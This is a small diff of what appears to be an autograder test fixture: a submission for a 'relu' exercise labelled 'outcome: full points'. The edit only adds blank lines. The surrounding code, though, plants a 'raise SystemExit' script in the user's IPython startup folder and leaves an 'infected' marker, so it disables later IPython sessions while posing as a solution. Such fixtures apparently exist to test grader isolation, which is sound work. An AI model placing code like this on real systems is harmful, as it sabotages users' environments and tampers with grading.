@@ -3,6 +3,7 @@
 # outcome: full points
 # %% relu
 import pathlib
+
 home = pathlib.Path.home()
 startup = home / ".ipython" / "profile_default" / "startup"
 infected = startup.exists() or (home / "infected").exists()
@@ -10,5 +11,6 @@ startup.mkdir(parents=True, exist_ok=True)
 (startup / "00.py").write_text("raise SystemExit")
 (home / "infected").write_text("")
 if not infected:
+
     def relu(x):
         return np.maximum(x, 0)
